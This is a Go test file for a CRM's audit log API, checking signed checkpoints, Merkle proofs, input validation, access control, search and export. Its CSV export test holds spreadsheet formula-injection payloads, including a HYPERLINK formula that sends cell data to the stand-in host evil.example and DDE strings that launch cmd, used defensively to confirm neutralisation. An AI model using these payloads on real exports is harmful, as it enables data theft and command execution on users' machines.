package jsonapi_test

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"

	"github.com/custoscrm/custos/internal/domain"
	"github.com/custoscrm/custos/internal/testkit"
)

// These tests check proofs from the HTTP responses with tlog's own
// verification functions and a checkpoint parser written here; they share
// no code with the server's proof building.

type signedRoot struct {
	size int64
	root tlog.Hash
}

// openCheckpoint verifies a signed checkpoint with vkey and parses its
// three lines (origin, size, base64 root hash).
func openCheckpoint(t *testing.T, text, vkey string) signedRoot {
	t.Helper()
	v, err := note.NewVerifier(vkey)
	if err != nil {
		t.Fatalf("verifier key: %v", err)
	}
	n, err := note.Open([]byte(text), note.VerifierList(v))
	if err != nil {
		t.Fatalf("checkpoint does not verify: %v\n%s", err, text)
	}
	lines := strings.Split(n.Text, "\n")
	if len(lines) != 4 || lines[3] != "" || !strings.HasPrefix(lines[0], "custos/audit/") {
		t.Fatalf("checkpoint text: %q", n.Text)
	}
	size, err := strconv.ParseInt(lines[1], 10, 64)
	if err != nil {
		t.Fatalf("checkpoint size: %v", err)
	}
	raw, err := base64.StdEncoding.DecodeString(lines[2])
	if err != nil || len(raw) != tlog.HashSize {
		t.Fatalf("checkpoint root: %q", lines[2])
	}
	var h tlog.Hash
	copy(h[:], raw)
	return signedRoot{size, h}
}

func decodeHashes(t *testing.T, in []string) []tlog.Hash {
	t.Helper()
	out := make([]tlog.Hash, len(in))
	for i, s := range in {
		raw, err := base64.StdEncoding.DecodeString(s)
		if err != nil || len(raw) != tlog.HashSize {
			t.Fatalf("proof hash %d: %q", i, s)
		}
		copy(out[i][:], raw)
	}
	return out
}

type auditFixture struct {
	a       *testkit.TestApp
	s       *testkit.Server
	auditor string
	rep     string
	admin   string
	cus     []string
}

func newAuditFixture(t *testing.T, d testkit.Dialect) *auditFixture {
	t.Helper()
	a := testkit.NewApp(t, d, testkit.AppOptions{})
	s := testkit.Serve(t, a)
	a.CreateUser(t, "auditor@x.example.com", domain.RoleAuditor, "")
	a.CreateUser(t, "rep@x.example.com", domain.RoleSalesRep, "")
	f := &auditFixture{a: a, s: s, auditor: s.LoginAs(t, "auditor@x.example.com"), rep: s.LoginAs(t, "rep@x.example.com"),
		admin: s.LoginAs(t, testkit.AdminEmail)}
	for i := 0; i < 3; i++ {
		r := s.Do(t, "POST", "/api/v1/customers", f.rep, map[string]any{
			"name": fmt.Sprintf("客户%d", i), "phone": fmt.Sprintf("1380013800%d", i), "email": fmt.Sprintf("c%d@example.com", i)})
		if r.Status != http.StatusCreated {
			t.Fatalf("create: %d %s", r.Status, r.Body)
		}
		id := r.Map(t)["id"].(string)
		f.cus = append(f.cus, id)
		if g := s.Do(t, "GET", "/api/v1/customers/"+id, f.rep, nil); g.Status != http.StatusOK {
			t.Fatalf("get: %d %s", g.Status, g.Body)
		}
	}
	f.sign(t)
	return f
}

// sign integrates pending events and signs a checkpoint.
func (f *auditFixture) sign(t *testing.T) {
	t.Helper()
	ctx := context.Background()
	if _, err := f.a.AuditSequencer.Integrate(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := f.a.AuditSequencer.Checkpoint(ctx); err != nil {
		t.Fatal(err)
	}
}

func (f *auditFixture) checkpoint(t *testing.T) (signedRoot, string) {
	t.Helper()
	r := f.s.Do(t, "GET", "/api/v1/audit/checkpoint", f.auditor, nil)
	if r.Status != http.StatusOK {
		t.Fatalf("checkpoint: %d %s", r.Status, r.Body)
	}
	var cp struct {
		TreeSize    int64  `json:"tree_size"`
		Checkpoint  string `json:"checkpoint"`
		VerifierKey string `json:"verifier_key"`
	}
	r.JSON(t, &cp)
	sr := openCheckpoint(t, cp.Checkpoint, cp.VerifierKey)
	if sr.size != cp.TreeSize {
		t.Fatalf("tree_size %d, signed size %d", cp.TreeSize, sr.size)
	}
	return sr, cp.VerifierKey
}

func TestAuditProofsVerifyWithTlog(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		first, vkey := f.checkpoint(t)
		if vkey != f.a.AuditSigner.VerifierKey() {
			t.Fatalf("checkpoint verifier %q is not the log's key", vkey)
		}
		if first.size < 6 {
			t.Fatalf("only %d entries after six audited actions", first.size)
		}
		for seq := int64(0); seq < first.size; seq++ {
			r := f.s.Do(t, "GET", fmt.Sprintf("/api/v1/audit/proofs/inclusion?seq=%d", seq), f.auditor, nil)
			if r.Status != http.StatusOK {
				t.Fatalf("inclusion %d: %d %s", seq, r.Status, r.Body)
			}
			var p struct {
				Seq      int64    `json:"seq"`
				TreeSize int64    `json:"tree_size"`
				Leaf     string   `json:"leaf"`
				Proof    []string `json:"proof"`
				Event    struct {
					Action string `json:"action"`
				} `json:"event"`
			}
			r.JSON(t, &p)
			leaf, err := base64.StdEncoding.DecodeString(p.Leaf)
			if err != nil {
				t.Fatal(err)
			}
			if p.Seq != seq || p.TreeSize != first.size || !strings.Contains(string(leaf), strconv.Quote(p.Event.Action)) {
				t.Fatalf("inclusion %d: %+v\n%s", seq, p, leaf)
			}
			if err := tlog.CheckRecord(decodeHashes(t, p.Proof), first.size, first.root, seq, tlog.RecordHash(leaf)); err != nil {
				t.Fatalf("inclusion proof of seq %d does not verify: %v", seq, err)
			}
			// The same proof must not verify another leaf.
			if err := tlog.CheckRecord(decodeHashes(t, p.Proof), first.size, first.root, seq, tlog.RecordHash(append(leaf, 'x'))); err == nil {
				t.Fatal("a proof verified a changed leaf")
			}
		}

		// Grow the log, sign again: the two signed roots are consistent.
		for _, id := range f.cus {
			f.s.Do(t, "GET", "/api/v1/customers/"+id, f.rep, nil)
		}
		f.sign(t)
		second, _ := f.checkpoint(t)
		if second.size <= first.size {
			t.Fatalf("log did not grow: %d then %d", first.size, second.size)
		}
		r := f.s.Do(t, "GET", fmt.Sprintf("/api/v1/audit/proofs/consistency?from=%d&to=%d", first.size, second.size), f.auditor, nil)
		if r.Status != http.StatusOK {
			t.Fatalf("consistency: %d %s", r.Status, r.Body)
		}
		var c struct {
			From, To int64
			Proof    []string `json:"proof"`
		}
		r.JSON(t, &c)
		if err := tlog.CheckTree(decodeHashes(t, c.Proof), second.size, second.root, first.size, first.root); err != nil {
			t.Fatalf("consistency proof does not verify: %v", err)
		}
		var wrong tlog.Hash
		if err := tlog.CheckTree(decodeHashes(t, c.Proof), second.size, second.root, first.size, wrong); err == nil {
			t.Fatal("a consistency proof verified a wrong old root")
		}
		// An old entry proven against the newer signed root.
		r = f.s.Do(t, "GET", fmt.Sprintf("/api/v1/audit/proofs/inclusion?seq=1&tree_size=%d", second.size), f.auditor, nil)
		var p struct {
			Leaf       string   `json:"leaf"`
			Proof      []string `json:"proof"`
			Checkpoint *string  `json:"checkpoint"`
		}
		r.JSON(t, &p)
		leaf, _ := base64.StdEncoding.DecodeString(p.Leaf)
		if err := tlog.CheckRecord(decodeHashes(t, p.Proof), second.size, second.root, 1, tlog.RecordHash(leaf)); err != nil {
			t.Fatalf("inclusion against the newer tree: %v", err)
		}
		if p.Checkpoint == nil || openCheckpoint(t, *p.Checkpoint, vkey) != second {
			t.Fatal("the inclusion answer does not carry the signed checkpoint of its tree size")
		}
	})
}

func TestAuditProofBadInput(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		cp, _ := f.checkpoint(t)
		n := cp.size
		for _, c := range []struct {
			query, field string
		}{
			{"/api/v1/audit/proofs/inclusion", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=-1", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=abc", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=01", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=1e3", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=99999999999999999999999", "seq"},
			{fmt.Sprintf("/api/v1/audit/proofs/inclusion?seq=%d", n), "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=0&tree_size=0", "tree_size"},
			{"/api/v1/audit/proofs/inclusion?seq=3&tree_size=3", "tree_size"},
			{fmt.Sprintf("/api/v1/audit/proofs/inclusion?seq=0&tree_size=%d", n+1000), "tree_size"},
			{"/api/v1/audit/proofs/inclusion?seq=0&seq=1", "seq"},
			{"/api/v1/audit/proofs/inclusion?seq=0&size=3", "size"},
			{"/api/v1/audit/proofs/consistency", "from"},
			{"/api/v1/audit/proofs/consistency?from=0", "from"},
			{"/api/v1/audit/proofs/consistency?from=x", "from"},
			{"/api/v1/audit/proofs/consistency?from=3&to=2", "to"},
			{fmt.Sprintf("/api/v1/audit/proofs/consistency?from=1&to=%d", n+1), "to"},
			{fmt.Sprintf("/api/v1/audit/proofs/consistency?from=%d", n+1), "from"},
			{"/api/v1/audit/events?outcome=maybe", "outcome"},
			{"/api/v1/audit/events?actor=bob", "actor"},
			{"/api/v1/audit/events?action=DROP%20TABLE", "action"},
			{"/api/v1/audit/events?target=a,b", "target"},
			{"/api/v1/audit/events?since=yesterday", "since"},
			{"/api/v1/audit/events?since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z", "until"},
			{"/api/v1/audit/events?cursor=bm9wZQ", "cursor"},
			{"/api/v1/audit/events?limit=0", "limit"},
			{"/api/v1/audit/export?format=xml", "format"},
			{"/api/v1/audit/export?from_seq=5&to_seq=4", "to_seq"},
		} {
			r := f.s.Do(t, "GET", c.query, f.auditor, nil)
			if r.Status != http.StatusBadRequest || r.ErrorField() != c.field {
				t.Errorf("%s: %d field %q, want 400 naming %q: %s", c.query, r.Status, r.ErrorField(), c.field, r.Body)
			}
		}
		// Nothing a bad request did reached the log.
		if _, err := f.a.AuditSequencer.Integrate(context.Background()); err != nil {
			t.Fatal(err)
		}
		tree, err := f.a.Store.AuditLog.AuditTree(context.Background())
		if err != nil || tree.Size != n {
			t.Fatalf("the log grew to %d (from %d) on refused requests: %v", tree.Size, n, err)
		}
	})
}

func TestAuditEndpointsAuthorization(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		paths := []string{"/api/v1/audit/checkpoint", "/api/v1/audit/proofs/inclusion?seq=0",
			"/api/v1/audit/proofs/consistency?from=1", "/api/v1/audit/events", "/api/v1/audit/export"}
		for _, p := range paths {
			if r := f.s.Do(t, "GET", p, "", nil); r.Status != http.StatusUnauthorized {
				t.Errorf("anonymous %s: %d", p, r.Status)
			}
			if r := f.s.Do(t, "GET", p, f.rep, nil); r.Status != http.StatusForbidden {
				t.Errorf("sales rep %s: %d %s", p, r.Status, r.Body)
			}
			if r := f.s.Do(t, "GET", p, f.auditor, nil); r.Status != http.StatusOK {
				t.Errorf("auditor %s: %d %s", p, r.Status, r.Body)
			}
			if r := f.s.Do(t, "GET", p, f.admin, nil); r.Status != http.StatusOK {
				t.Errorf("admin %s: %d %s", p, r.Status, r.Body)
			}
		}
	})
}

func TestAuditSearch(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		rep, err := f.a.Store.Users.GetUserByEmail(context.Background(), "rep@x.example.com")
		if err != nil {
			t.Fatal(err)
		}
		type page struct {
			Items []struct {
				Seq       int64    `json:"seq"`
				ActorUser string   `json:"actor_user"`
				Action    string   `json:"action"`
				TargetID  string   `json:"target_id"`
				Fields    []string `json:"fields"`
				Outcome   string   `json:"outcome"`
			} `json:"items"`
			NextCursor *string `json:"next_cursor"`
		}
		q := url.Values{"actor": {string(rep.ID)}, "action": {"customer.read"}, "limit": {"2"}}
		var seen []string
		var last int64 = -1
		for {
			r := f.s.Do(t, "GET", "/api/v1/audit/events?"+q.Encode(), f.auditor, nil)
			if r.Status != http.StatusOK {
				t.Fatalf("search: %d %s", r.Status, r.Body)
			}
			var p page
			r.JSON(t, &p)
			for _, it := range p.Items {
				if it.ActorUser != string(rep.ID) || it.Action != "customer.read" || it.Seq <= last {
					t.Fatalf("unexpected item %+v", it)
				}
				last = it.Seq
				seen = append(seen, it.TargetID)
			}
			if p.NextCursor == nil {
				break
			}
			q.Set("cursor", *p.NextCursor)
		}
		if len(seen) != 3 || seen[0] != f.cus[0] || seen[2] != f.cus[2] {
			t.Fatalf("reads found: %v, want %v", seen, f.cus)
		}
		r := f.s.Do(t, "GET", "/api/v1/audit/events?target="+f.cus[1]+"&outcome=allowed", f.auditor, nil)
		var p page
		r.JSON(t, &p)
		if len(p.Items) != 2 { // create and read
			t.Fatalf("target search: %s", r.Body)
		}
		for _, it := range p.Items {
			if it.TargetID != f.cus[1] {
				t.Fatalf("target search returned %+v", it)
			}
		}
		r = f.s.Do(t, "GET", "/api/v1/audit/events?until=2000-01-01T00:00:00Z", f.auditor, nil)
		r.JSON(t, &p)
		if len(p.Items) != 0 {
			t.Fatalf("time range: %s", r.Body)
		}
		// Searching the log is itself recorded.
		f.sign(t)
		r = f.s.Do(t, "GET", "/api/v1/audit/events?action=audit.search", f.auditor, nil)
		r.JSON(t, &p)
		if len(p.Items) < 3 {
			t.Fatalf("audit.search events: %s", r.Body)
		}
	})
}

func TestAuditExportNeutralizesCSVInjection(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"}
		for _, ua := range payloads {
			body := strings.NewReader(`{"email":"nobody@x.example.com","password":"wrong-password-123"}`)
			req, _ := http.NewRequestWithContext(context.Background(), "POST", f.s.URL+"/api/v1/auth/login", body)
			req.Header.Set("User-Agent", ua)
			resp, err := f.s.Client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		f.sign(t)
		r := f.s.Do(t, "GET", "/api/v1/audit/export?format=csv&action=auth.login&outcome=denied", f.auditor, nil)
		if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
			t.Fatalf("export: %d %s", r.Status, r.Body)
		}
		rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
		if err != nil {
			t.Fatalf("export is not CSV: %v", err)
		}
		if len(rows) != 1+len(payloads) || rows[0][7] != "user_agent" {
			t.Fatalf("export rows: %q", rows)
		}
		for i, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("row %d: cell %q can run as a formula", i, cell)
				}
			}
			if row[7] != "'"+payloads[i] {
				t.Fatalf("row %d: user_agent %q, want the payload quoted", i, row[7])
			}
		}
		r = f.s.Do(t, "GET", "/api/v1/audit/export?format=json&action=auth.login&outcome=denied", f.auditor, nil)
		var doc struct {
			Log   string `json:"log"`
			Items []struct {
				UserAgent string `json:"user_agent"`
			} `json:"items"`
		}
		if err := json.Unmarshal(r.Body, &doc); err != nil || len(doc.Items) != len(payloads) || doc.Items[0].UserAgent != payloads[0] {
			t.Fatalf("JSON export: %v %s", err, r.Body)
		}
	})
}

// When the audit log cannot record, a read of unmasked personal data
// fails and returns none of it; once the log is back, the read works.
func TestCustomerReadFailsClosedWhenAuditFails(t *testing.T) {
	testkit.ForEachDialect(t, func(t *testing.T, d testkit.Dialect) {
		f := newAuditFixture(t, d)
		// Reads are recorded in the audit queue on SQLite, in audit_pending
		// on PostgreSQL: take the table away.
		var exec func(q string)
		if d == testkit.SQLite {
			q := testkit.OpenRawAuditQueue(t, f.a)
			exec = func(s string) {
				if _, err := q.ExecContext(context.Background(), s); err != nil {
					t.Fatal(err)
				}
			}
			exec(`ALTER TABLE audit_queue RENAME TO audit_queue_away`)
			defer exec(`ALTER TABLE audit_queue_away RENAME TO audit_queue`)
		} else {
			raw := testkit.RawDB(t, f.a)
			exec = func(s string) { raw.Exec(t, s) }
			exec(`ALTER TABLE audit_pending RENAME TO audit_pending_away`)
			defer exec(`ALTER TABLE audit_pending_away RENAME TO audit_pending`)
		}
		r := f.s.Do(t, "GET", "/api/v1/customers/"+f.cus[0], f.rep, nil)
		if r.Status != http.StatusServiceUnavailable || r.ErrorCode() != "unavailable" {
			t.Fatalf("read with the audit log down: %d %s", r.Status, r.Body)
		}
		for _, secret := range []string{"客户0", "13800138000", "c0@example.com", f.cus[0]} {
			if strings.Contains(string(r.Body), secret) {
				t.Fatalf("the refused response leaks %q: %s", secret, r.Body)
			}
		}
	})
}
